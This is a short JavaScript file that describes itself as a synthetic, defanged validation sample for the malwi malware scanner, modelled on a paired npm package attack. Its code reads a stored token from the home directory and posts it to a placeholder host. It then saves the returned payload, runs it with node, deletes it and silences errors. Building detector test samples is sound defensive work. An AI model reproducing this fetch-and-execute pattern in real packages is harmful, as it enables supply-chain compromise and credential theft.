// SYNTHETIC, DEFANGED malwi validation sample - modelled on the paired-package npm campaign attributed to Lazarus (2023); never run.
// Step two (the second package of the pair): send the stored token back, save the payload the
// server returns, run it with node and delete it.
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
const { execSync } = require('child_process');

const tokenFile = path.join(os.homedir(), '.gtm');
setTimeout(() => {
  let token;
  try {
    token = fs.readFileSync(tokenFile, 'utf8');
  } catch (e) {
    return;
  }
  const req = https.request({ hostname: 'npmjscdn.example.invalid', path: '/api/payload', method: 'POST', headers: { 'Content-Type': 'application/json' } }, (res) => {
    let d = '';
    res.on('data', (c) => (d += c));
    res.on('end', () => {
      const out = path.join(os.tmpdir(), 'malwi-defanged-placeholder.js');
      try {
        fs.writeFileSync(out, d);
        execSync('node ' + out, { stdio: 'ignore' });
        fs.unlinkSync(out);
      } catch (e) {}
    });
  });
  req.on('error', () => {});
  req.end(JSON.stringify({ token }));
}, 3000);
